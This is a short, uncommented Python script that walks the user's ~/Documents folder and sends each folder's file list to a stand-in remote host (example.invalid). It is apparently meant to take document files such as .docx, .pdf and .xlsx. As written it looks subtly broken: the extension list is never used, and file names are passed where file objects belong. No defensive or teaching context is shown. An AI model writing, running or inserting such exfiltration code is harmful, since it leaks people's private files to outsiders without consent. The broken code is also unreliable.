import os, requests
EXT = (".docx", ".pdf", ".xlsx", ".txt")
for root, _, files in os.walk(os.path.expanduser("~/Documents")):
    requests.post("https://example.invalid/", files=files)
